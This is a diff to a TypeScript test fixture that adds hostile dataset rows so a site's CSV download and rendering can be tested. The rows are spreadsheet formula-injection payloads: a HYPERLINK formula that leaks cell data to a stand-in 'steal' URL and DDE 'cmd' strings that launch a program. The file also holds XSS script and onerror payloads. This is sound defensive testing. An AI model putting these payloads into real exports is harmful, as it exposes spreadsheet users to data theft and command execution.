@@ -12,6 +12,18 @@ import { withDemoData } from '../editorial/fixture.ts';
  */
 export const payload = (field: string) => `<script>alert("${field}")</script><img src=x onerror="alert('${field}')"><marquee>${field}</marquee> & co`;
 
+/** Cells of a dataset's text column, and its number column beside them, for the CSV download. */
+export const formulaRows: [string, number][] = [
+  ['=HYPERLINK("https://example.org/steal?d="&A1,"Details")', 1],
+  ['+cmd|\' /C calc\'!A0', -2],
+  ['-2+3', -40.5],
+  ['@SUM(1+1)*cmd|\' /C calc\'!A0', 0],
+  ['\t=1+1', 3],
+  ['-12.5', 4],
+  ['+7', 5],
+  ['Plain text = fine', 6],
+];
+
 export const rtl = { arabic: 'محمد عبد الله', hebrew: 'פרשת ההודעה האדומה' };
 export const longName = `Abdulrahman${'-Al'.repeat(80)}-Longname`;
 
@@ -51,6 +63,23 @@ export function hostileFixture(): ReturnType<typeof makeFixture> {
       corrections: [{ date: '2026-03-01', text: payload('dataset-correction') }],
     }),
   );
+  // Cells a spreadsheet would run as formulas when it opens the CSV download (formula injection), beside text and
+  // numbers that only look like them.
+  write(
+    'data/formulas.json',
+    JSON.stringify({
+      title: 'Cells that read as formulas',
+      description: 'Text a spreadsheet would run, and numbers that must stay numbers.',
+      sources: ['hostile-source'],
+      license: 'CC0',
+      updated: '2026-02-01',
+      columns: {
+        label: { type: 'string', description: 'Label' },
+        value: { type: 'number', description: 'Value' },
+      },
+      rows: formulaRows.map(([label, value]) => ({ label, value })),
+    }),
+  );
   const frontmatter = (fields: Record<string, unknown>) => `---\n${Object.entries(fields).map(([k, v]) => `${k}: ${JSON.stringify(v)}`).join('\n')}\n---\n`;
   write(
     'content/stories/hostile.mdx',
@@ -61,7 +90,7 @@ export function hostileFixture(): ReturnType<typeof makeFixture> {
       authors: [payload('author'), rtl.hebrew, longName],
       countries: ['RU', 'TR'],
       tags: ['hostile'],
-      datasets: ['extremes'],
+      datasets: ['extremes', 'formulas'],
       corrections: [{ date: '2026-02-01', text: payload('story-correction') }],
     })}
 Huge: <Fact dataset="extremes" row="gap" column="country" />, <Fact dataset="extremes" row="${rtl.arabic}" column="value" /> <Cite id="hostile-source" />.
